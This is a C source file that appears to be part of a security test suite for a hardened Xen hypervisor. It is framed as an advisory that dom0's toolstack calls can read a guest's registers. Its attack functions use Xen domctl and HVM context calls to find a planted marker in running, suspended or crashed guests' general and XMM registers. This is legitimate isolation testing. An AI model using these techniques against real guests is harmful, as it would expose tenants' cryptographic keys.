/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Advisory: a guest's registers by the toolstack's calls
 *
 * Claim:  dom0 reads general and vector registers of a running guest; ciphers
 *         keep their keys in the latter.
 * Method: XEN_DOMCTL_getvcpucontext, _getvcpuextstate and
 *         _gethvmcontext_partial of the running guest, which has the marker in
 *         them most of the time; _gethvmcontext of one that has suspended
 *         itself with the marker in them.
 * Stock:  all of them, for PVH guests, too.
 */
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>

#include "../attack.h"

#include <xen/hvm/save.h>

#define TRIES 40
#define SIZE (64u << 10)

/* How many registers hold one word of the marker. */
static int words_in(const void *memory, size_t size)
{
    const char *at = memory, *end = at + size;
    uint32_t word[VICTIM_WORDS];
    uint64_t wide;
    unsigned int i;
    int found = 0;

    marker_words(word);
    for ( i = 0; i < VICTIM_WORDS; i++ )
        for ( wide = word[i], at = memory;
              (at = memmem(at, end - at, &wide, sizeof(wide))); at++ )
            found++;
    return found;
}

static enum verdict getvcpucontext(struct victim *v)
{
    vcpu_guest_context_any_t c;
    unsigned int i;

    for ( i = 0; i < TRIES; i++, msleep(7) )
    {
        if ( xc_vcpu_getcontext(xch, v->id, 0, &c) )
            return verdict(FAILURE, "refused");
        if ( secret_registers(c.x64.user_regs.rsi, c.x64.user_regs.rdi,
                              c.x64.user_regs.rbp) )
            return verdict(SUCCESS, "marker in RSI, RDI, RBP");
    }
    return verdict(FAILURE, "no marker");
}
ATTACK(getvcpucontext, .needs = SHARED);

static enum verdict getvcpuextstate(struct victim *v)
{
    struct xen_domctl op = {0};
    void *state = xen_buffer(SIZE);
    unsigned int i;

    for ( i = 0; i < TRIES; i++, msleep(7) )
    {
        op.u.vcpuextstate.size = 0;
        set_xen_guest_handle_raw(op.u.vcpuextstate.buffer, NULL);
        if ( domctl(v->id, XEN_DOMCTL_getvcpuextstate, &op) ||
             op.u.vcpuextstate.size > SIZE )
            return verdict(FAILURE, "refused");
        set_xen_guest_handle_raw(op.u.vcpuextstate.buffer, state);
        if ( domctl(v->id, XEN_DOMCTL_getvcpuextstate, &op) )
            return verdict(FAILURE, "refused");
        if ( markers_in(state, SIZE) )
            return verdict(SUCCESS, "marker in XMM registers");
    }
    return verdict(FAILURE, "no marker");
}
ATTACK(getvcpuextstate, .needs = SHARED);

/* The pages of a guest, as a save reads them: RAM, and libxc's special ones. */
#define RAM_PAGES (GUEST_MIB << 8)
#define SPECIAL_GFN 0xfeff0ul
#define SPECIAL_PAGES 0x10

static void read_all(struct victim *v)
{
    static xen_pfn_t gfn[RAM_PAGES + SPECIAL_PAGES];
    static int err[RAM_PAGES + SPECIAL_PAGES];
    unsigned int i, n = RAM_PAGES + SPECIAL_PAGES;
    void *mem;

    for ( i = 0; i < n; i++ )
        gfn[i] = i < RAM_PAGES ? i : SPECIAL_GFN + i - RAM_PAGES;
    mem = xenforeignmemory_map(fmem, v->id, PROT_READ, n, gfn, err);
    if ( mem )
        xenforeignmemory_unmap(fmem, mem, n);
}

/*
 * Of a guest that has suspended itself, and whose pages have been read: of any
 * other, Cloister gives nobody anything.  Not having got what a save would get
 * proves nothing.
 */
static enum verdict gethvmcontext(struct victim *v)
{
    int size, general, vector;
    uint8_t *state;

    if ( !victim_suspended(v, 20) )
        return verdict(ERROR, "the guest does not suspend");
    read_all(v);
    size = xc_domain_hvm_getcontext(xch, v->id, NULL, 0);
    state = size > 0 ? calloc(1, size) : NULL;
    if ( !state )
        return verdict(ERROR, "no size of the context: %d", size);
    size = xc_domain_hvm_getcontext(xch, v->id, state, size);
    if ( size < (int)sizeof(struct hvm_hw_cpu) )
        return verdict(ERROR, "no context: %d", size);
    general = words_in(state, size);
    vector = markers_in(state, size);
    return verdict(general || vector ? SUCCESS : FAILURE,
                   "marker in %d general and %d vector registers, %d bytes",
                   general, vector, size);
}
ATTACK(gethvmcontext, .needs = FRESH, .extra = "suspend");

static enum verdict gethvmcontext_partial(struct victim *v)
{
    struct hvm_hw_cpu *cpu = xen_buffer(sizeof(*cpu));
    unsigned int i;

    for ( i = 0; i < TRIES; i++, msleep(7) )
    {
        if ( xc_domain_hvm_getcontext_partial(xch, v->id, HVM_SAVE_CODE(CPU),
                                              0, cpu, sizeof(*cpu)) )
            return verdict(FAILURE, "refused");
        if ( secret_registers(cpu->rsi, cpu->rdi, cpu->rbp) )
            return verdict(SUCCESS, "marker in RSI, RDI, RBP");
    }
    return verdict(FAILURE, "no marker");
}
ATTACK(gethvmcontext_partial, .needs = SHARED);

/* Claim: ... of a guest that has crashed. */
static enum verdict registers_crashed(struct victim *v)
{
    vcpu_guest_context_any_t c;
    uint32_t word[VICTIM_WORDS];

    if ( !victim_suspended(v, 30) )
        return verdict(ERROR, "the guest goes on");
    if ( xc_vcpu_getcontext(xch, v->id, 0, &c) )
        return verdict(FAILURE, "refused");
    marker_words(word);
    return verdict(c.x64.user_regs.rsi == word[0] &&
                           c.x64.user_regs.rdi == word[1]
                       ? SUCCESS
                       : FAILURE,
                   "RSI %#lx, RDI %#lx", (unsigned long)c.x64.user_regs.rsi,
                   (unsigned long)c.x64.user_regs.rdi);
}
ATTACK(registers_crashed, .needs = FRESH, .extra = "triple");
